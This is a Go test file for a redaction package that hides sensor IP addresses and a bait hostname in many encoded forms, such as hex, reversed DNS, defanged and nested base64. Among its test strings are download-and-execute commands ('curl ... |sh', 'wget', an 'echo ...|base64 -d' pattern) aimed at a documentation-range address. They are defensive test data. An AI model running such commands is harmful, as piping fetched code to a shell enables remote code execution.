package redact

import (
	"encoding/base64"
	"encoding/hex"
	"net/netip"
	"net/url"
	"strings"
	"testing"
)

var r = New([]netip.Addr{netip.MustParseAddr("198.51.100.9"), netip.MustParseAddr("2001:db8::17")}, []string{"bait-7.example.net"})

func TestEveryForm(t *testing.T) {
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	for _, s := range []string{
		"http://198.51.100.9:2375/x", "198-51-100-9.host", "3325256713", "0xc6336409", "C6336409", "096433C6", "9.100.51.198.in-addr.arpa",
		`198\.51\.100\.9`, "198[.]51[.]100[.]9", url.QueryEscape("198.51.100.9"), "198%2E51%2E100%2E9", "9.001.15.891",
		b64("198.51.100.9"), b64("x198.51.100.9"), b64("curl http://198.51.100.9/a|sh"), b64(b64("wget 198.51.100.9")), "echo " + b64("a\n198.51.100.9\n") + "|base64 -d",
		hex.EncodeToString([]byte("198.51.100.9")), base64.RawURLEncoding.EncodeToString([]byte("?>198.51.100.9?>")),
		"2001:db8::17", "2001:0db8:0000:0000:0000:0000:0000:0017", "[2001:DB8::17]:2375", "bait-7.example.net", "BAIT-7.EXAMPLE.NET", b64("Host: bait-7.example.net"),
		`\xc6\x33\x64\x09`,
	} {
		got := r.String(s)
		if got == s {
			t.Errorf("%q was left as it is", s)
		}
		if !strings.Contains(deep(got), "sensor-") && !strings.Contains(deep(got), "rosnes") && !strings.Contains(got, "1-rosnes") {
			t.Errorf("%q became %q: no token", s, got)
		}
		if again := r.String(got); again != got {
			t.Errorf("%q: not stable: %q then %q", s, got, again)
		}
	}
}

// deep adds what base64 and hex in s decode to.
func deep(s string) string {
	out := s
	for _, m := range reB64.FindAllString(s, -1) {
		for _, e := range []*base64.Encoding{base64.RawStdEncoding, base64.RawURLEncoding} {
			if b, err := e.DecodeString(strings.TrimRight(m, "=")); err == nil && len(b) > 6 && string(b) != s && len(out) < 1e5 {
				out += " " + deep(string(b))
			}
		}
	}
	if b, err := hex.DecodeString(s); err == nil {
		out += " " + string(b)
	}
	return out
}

func TestNothingElse(t *testing.T) {
	for _, s := range []string{"198.51.100.99", "1198.51.100.9", "127.0.0.1", "aGVsbG8gd29ybGQ=", "33252567130", "deadbeefdeadbeef", ""} {
		if got := r.String(s); got != s {
			t.Errorf("%q became %q", s, got)
		}
	}
}

func TestJSON(t *testing.T) {
	got, err := r.JSON([]byte(`{"a":"198.51.100.9","n":123456789012345678,"198.51.100.9":["x 198.51.100.9",null,true]}`))
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(got), "198.51") || !strings.Contains(string(got), "123456789012345678") {
		t.Errorf("%s", got)
	}
}

func FuzzString(f *testing.F) {
	f.Add("curl http://198.51.100.9/")
	f.Fuzz(func(t *testing.T, s string) {
		got := r.String(s)
		if i := strings.Index(got, "198.51.100.9"); i >= 0 && boundary(got, i, i+12, "198.51.100.9") {
			t.Fatalf("%q became %q", s, got)
		}
	})
}
